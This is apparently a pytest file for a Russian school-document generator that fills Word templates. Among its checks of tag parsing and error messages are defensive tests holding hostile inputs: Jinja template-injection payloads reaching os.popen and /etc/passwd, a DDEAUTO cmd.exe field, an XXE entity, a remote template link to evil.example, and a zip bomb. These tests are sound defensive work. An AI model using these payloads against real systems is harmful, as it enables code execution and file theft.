"""Templates: ours are rebuilt and clean, a school's own is used, a hostile one does nothing, a wrong one is named."""

from __future__ import annotations

import io
import zipfile
from pathlib import Path

import pytest
from documents_support import template, text_of
from docx import Document
from docx.oxml import OxmlElement

from nastavnik_sheets.documents import check_template, make
from nastavnik_sheets.documents.building import build, source_names
from nastavnik_sheets.documents.every_kind import all_kinds
from nastavnik_sheets.documents.sample import SAMPLE_DAY, sample_book
from nastavnik_sheets.documents.word_package import read_parts, write_parts
from nastavnik_sheets.errors import HostError, Refused

TEMPLATES = Path(__file__).parent.parent / "nastavnik_sheets" / "templates"
PAIRS = "Приказ об утверждении пар.docx"


def problems(tmp_path: Path, content: bytes, kind: str = "order_pairs") -> list[str]:
    path = tmp_path / "шаблон.docx"
    path.write_bytes(content)
    return [str(problem) for problem in check_template(path, kind)]


@pytest.mark.parametrize("name", source_names())
def test_a_template_of_ours_is_what_its_text_builds(name: str) -> None:
    assert (TEMPLATES / f"{name}.docx").read_bytes() == build(name)


@pytest.mark.parametrize("kind", [kind.key for kind in all_kinds()])
def test_a_template_of_ours_has_no_problem(kind: str) -> None:
    file = next(k.file for k in all_kinds() if k.key == kind)
    assert check_template(TEMPLATES / file) == []


def test_every_template_belongs_to_a_kind_and_every_kind_has_one() -> None:
    assert {path.name for path in TEMPLATES.glob("*.docx")} == {kind.file for kind in all_kinds()}


def test_a_sentence_changed_in_word_is_printed(tmp_path: Path) -> None:
    document = Document(str(TEMPLATES / PAIRS))
    paragraph = next(p for p in document.paragraphs if p.text.startswith("Контроль"))
    paragraph.text = "Контроль возложить на {{ координатор | вин }}."
    document.save(str(tmp_path / PAIRS))
    made = make(sample_book(), "order_pairs", today=SAMPLE_DAY, templates=tmp_path)
    text = text_of(made.files[0][1])
    assert "Контроль возложить на Гаджиеву Патимат Саидовну." in text
    assert "оставляю за собой" not in text


def test_a_tag_cut_into_runs_by_word_is_one_tag(tmp_path: Path) -> None:
    document = Document()
    paragraph = document.add_paragraph("Приказ ")
    for piece in ("{", "{ но", "мер", " }", "} от {{ да", "та | циф", "рами }}"):
        paragraph.add_run(piece).bold = len(piece) % 2 == 0
    document.save(str(tmp_path / PAIRS))
    made = make(sample_book(), "order_pairs", today=SAMPLE_DAY, templates=tmp_path)
    assert text_of(made.files[0][1]).strip() == "Приказ 1 от 01.10.2026"


def test_russian_and_english_words_of_the_language_mean_the_same(tmp_path: Path) -> None:
    content = template(
        "{%абзац для пара в пары%}",
        "{{ пара.номер }}. {% если пара.наставник.класс и не пара.куратор %}да{% иначе если пара.куратор %}нет"
        "{% конец если %}",
        "{%абзац конец для%}",
        "{% for пара in пары %}{% if loop.last %}{{ loop.index }}{% endif %}{% endfor %}",
    )
    (tmp_path / PAIRS).write_bytes(content)
    made = make(sample_book(), "order_pairs", today=SAMPLE_DAY, templates=tmp_path)
    assert text_of(made.files[0][1]).split() == ["1.", "нет", "2.", "нет", "3.", "нет", "4.", "нет", "4"]


HOSTILE = (
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{{ номер.__class__ }}",
    "{{ номер['__class__'] }}",
    "{{ school.__init__.__globals__ }}",
    "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
    "{{ lipsum.__globals__['os'].popen('id').read() }}",
    "{{ range(10**9) | list }}",
    "{{ 'я' * 10**9 }}",
    "{{ 10 ** 10 ** 10 }}",
    "{{ 'x' | attr('__class__') }}",
    "{{ пары.append(1) }}",
    "{{ школа.update({'полное': 'взлом'}) }}",
    "{{ '%999999999d' | format(1) }}",
    "{{ self._TemplateReference__context }}",
    "{% include '/etc/passwd' %}",
    "{% import 'os' as os %}",
    "{% set x = 1 %}{{ x }}",
    "{% macro a() %}{{ a() }}{% endmacro %}{{ a() }}",
    "{% call школа() %}{% endcall %}",
    "{{ школа.полное.format(школа) }}",
    "{{r номер }}",
)


@pytest.mark.parametrize("text", HOSTILE)
@pytest.mark.parametrize("place", ["body", "header", "cell"])
def test_a_hostile_template_is_refused_before_it_is_filled(tmp_path: Path, text: str, place: str) -> None:
    content = {
        "body": template(text),
        "header": template("текст", header=text),
        "cell": template("текст", table=((text, "2"),)),
    }[place]
    (tmp_path / PAIRS).write_bytes(content)
    assert problems(tmp_path, content)
    with pytest.raises(Refused):
        make(sample_book(), "order_pairs", today=SAMPLE_DAY, templates=tmp_path)


def part_added(content: bytes, name: str, data: bytes) -> bytes:
    return write_parts({**read_parts(content, name="t"), name: data})


def test_a_template_with_a_program_links_or_living_fields_is_refused(tmp_path: Path) -> None:
    plain = template("{{ номер }}")
    assert any("вложен" in p for p in problems(tmp_path, part_added(plain, "word/vbaProject.bin", b"x")))
    link = (
        b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" '
        b'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
        b'Target="http://evil.example/a.dotm" TargetMode="External"/></Relationships>'
    )
    assert any("внешний файл" in p for p in problems(tmp_path, part_added(plain, "word/_rels/settings.xml.rels", link)))
    document = Document(io.BytesIO(plain))
    instruction = OxmlElement("w:instrText")
    instruction.text = ' DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc" '
    document.paragraphs[0].add_run()._r.append(instruction)
    stream = io.BytesIO()
    document.save(stream)
    assert any("DDEAUTO" in p for p in problems(tmp_path, stream.getvalue()))


def test_a_file_that_is_no_document_is_named_calmly(tmp_path: Path) -> None:
    for content in (b"", b"PK\x03\x04", b"not a zip at all"):
        path = tmp_path / "плохой.docx"
        path.write_bytes(content)
        with pytest.raises(HostError, match=r"плохой\.docx"):
            check_template(path)
    with pytest.raises(HostError, match="не открывается"):
        check_template(tmp_path / "нет.docx")


def test_a_bomb_is_not_unpacked(tmp_path: Path) -> None:
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("word/document.xml", b"\0" * 100_000_000)
    path = tmp_path / "бомба.docx"
    path.write_bytes(stream.getvalue())
    with pytest.raises(HostError, match="распаковывается"):
        check_template(path)


def test_entities_of_a_stranger_are_not_resolved(tmp_path: Path) -> None:
    parts = read_parts(template("{{ номер }}"), name="t")
    parts["word/document.xml"] = b'<!DOCTYPE w [<!ENTITY e SYSTEM "file:///etc/passwd">]>' + parts["word/document.xml"]
    assert problems(tmp_path, write_parts(parts))


def test_all_problems_are_listed_at_once_with_their_places(tmp_path: Path) -> None:
    found = problems(
        tmp_path,
        template(
            "{{ наставнк }}",
            "{{ школа.полнае }}",
            "{ { номер } }",
            "{{ номер",
            "{{ номер | датт }}",
            "{{ номeр }}",
            "{% если номер == «5» %}пять{% конец если %}",
            "{% есле номер %}",
            "{% если номер %}",
            "хвост }}",
            "{номер}",
            table=(("{%строка для пара в пары%}", ""), ("{{ пара.наставник.ФОИ }}", "{{ пара.форма }}")),
        ),
    )
    text = "\n".join(found)
    for wanted in (
        "абзац 1 («{{ наставнк }}»): неизвестное поле «наставнк»",
        "абзац 2 («{{ школа.полнае }}»): неизвестное поле «школа.полнае», возможно «полное»",
        "абзац 3 («{ { номер } }»): пробел между фигурными скобками",
        "абзац 4 («{{ номер»): поле начато и не закрыто",
        "неизвестный фильтр «датт», возможно «дат»",
        "латинские буквы, возможно «номер»",
        "кавычки-ёлочки",
        "неизвестная команда «есле», возможно «если»",
        "начато «если» и не закончено",
        "абзац 10 («хвост }}»): лишние «}}»",
        "одиночная фигурная скобка",
        "таблица 1, строка 2, столбец 1: неизвестное поле «пара.наставник.ФОИ»; есть: ФИО",
        "таблица 1, строка 1, столбец 1: начато «для» и не закончено",
    ):
        assert wanted in text, f"{wanted}\n---\n{text}"
    paragraphs = [int(line.split()[1]) for line in found if line.startswith("абзац")]
    assert paragraphs == sorted(paragraphs)


MISPLACED = (
    ("{%абзац если номер%} и ещё слова", "{%абзац конец если%}"),
    ("{%строка для пара в пары%}", "{%строка конец для%}"),
    ("{%абзац если номер%}", "{% конец если %}"),
    ("{% конец если %}",),
    ("{% иначе %}",),
    ("{{ номер | }}",),
    ("{{ номер\u00ad }}",),
)


@pytest.mark.parametrize("lines", MISPLACED)
def test_a_misplaced_or_broken_tag_is_found(tmp_path: Path, lines: tuple[str, ...]) -> None:
    assert problems(tmp_path, template(*lines))


def test_a_block_that_begins_in_one_cell_and_ends_in_another_is_found(tmp_path: Path) -> None:
    content = template("текст", table=(("{% если номер %}", "{% конец если %}"),))
    assert any("не там" in p for p in problems(tmp_path, content))
